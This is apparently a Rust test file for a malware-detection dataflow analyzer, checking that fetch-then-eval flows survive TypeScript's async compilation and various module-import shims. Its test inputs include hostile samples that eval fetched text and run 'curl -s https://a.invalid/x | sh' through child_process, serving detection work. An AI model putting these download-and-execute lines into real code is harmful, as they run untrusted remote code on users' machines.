use crate::flow::testing::{found, remote_code, script};
use customs_model::{SinkKind, SourceKind, Zone};

/// What TypeScript puts in front of a file.
const AWAITER: &str = "var __awaiter = (this && this.__awaiter) || function (t, a, P, generator) {
    function adopt(v) { return v instanceof P ? v : new P(function (r) { r(v); }); }
    return new (P || (P = Promise))(function (resolve, reject) {
        function fulfilled(v) { try { step(generator.next(v)); } catch (e) { reject(e); } }
        function step(r) { r.done ? resolve(r.value) : adopt(r.value).then(fulfilled); }
        step((generator = generator.apply(t, a || [])).next());
    });
};
var __generator = (this && this.__generator) || function (t, body) { return {}; };";

fn runs_fetched(code: &str) -> bool {
    remote_code(script(&format!("{AWAITER}\n{code}"))) > Some(Zone::Command)
}

#[test]
fn what_typescript_makes_of_async_is_async() {
    let es2015 = "function load() { return __awaiter(this, void 0, void 0, function* () {
            const r = yield fetch('https://a.invalid'); return WHAT; }); }
        load().then(eval)";
    assert!(runs_fetched(&es2015.replace("WHAT", "r.text()")));
    assert!(!runs_fetched(&es2015.replace("WHAT", "'1 + 1'")));
    let es5 = "function load() { return __awaiter(this, void 0, void 0, function () { var r;
            return __generator(this, function (_a) { switch (_a.label) {
                case 0: return [4 /*yield*/, fetch('https://a.invalid')];
                case 1: r = _a.sent(); return [2 /*return*/, WHAT]; } }); }); }
        function main() { return __awaiter(this, void 0, void 0, function () { var c;
            return __generator(this, function (_a) { switch (_a.label) {
                case 0: return [4 /*yield*/, load()];
                case 1: c = _a.sent(); eval(c); return [2 /*return*/]; } }); }); }
        main()";
    assert!(runs_fetched(&es5.replace("WHAT", "r.text()")));
    assert!(!runs_fetched(&es5.replace("WHAT", "'1 + 1'")));
}

#[test]
fn this_is_the_object_around_a_compiled_method() {
    let code = "class C { constructor() { this.u = 'https://a.invalid' }
        load() { return __awaiter(this, void 0, void 0, function* () {
            const r = yield fetch(this.u); eval(yield r.text()); }); } }
        new C().load()";
    assert!(runs_fetched(code));
    assert!(!runs_fetched(&code.replace("eval(", "JSON.parse(")));
}

#[test]
fn all_names_of_a_module_are_its_names() {
    let minified = "var u=Object.create,i=Object.defineProperty,d=Object.getOwnPropertyDescriptor,
        n=Object.getOwnPropertyNames,m=Object.getPrototypeOf,h=Object.prototype.hasOwnProperty;
        var p=(e,t,r,s)=>{if(t&&typeof t=='object'||typeof t=='function')for(let o of n(t))
        !h.call(e,o)&&o!==r&&i(e,o,{get:()=>t[o],enumerable:!(s=d(t,o))||s.enumerable});return e};
        var l=(e,t,r)=>(r=e!=null?u(m(e)):{},p(t||!e||!e.__esModule?i(r,'default',{value:e,enumerable:!0}):r,e));
        const cp = l(MODULE);";
    for code in [
        "const cp = __importStar(MODULE);",
        "const cp = tslib_1.__importStar(MODULE);",
        "const cp = (0, tslib_1.__importStar)(MODULE);",
        "const cp = _interopRequireWildcard(MODULE);",
        minified,
        "const cp = { ...MODULE };",
        "const cp = { ...MODULE, more: 1 };",
        "const cp = Object.assign({}, MODULE);",
        "const star = (m) => { const r = {}; for (const k in m) r[k] = m[k]; return r }; const cp = star(MODULE);",
    ] {
        let starts = |module: &str| {
            let code = code.replace("MODULE", &format!("require('{module}')"));
            let call = "cp.execSync('curl -s https://a.invalid/x | sh')";
            let flows = found(script(&format!("{code}\n{call}"))).flows;
            let mut flows = flows.iter();
            flows.any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::Process)
        };
        assert!(starts("child_process"), "{code}");
        assert!(!starts("./other"), "{code}");
    }
}
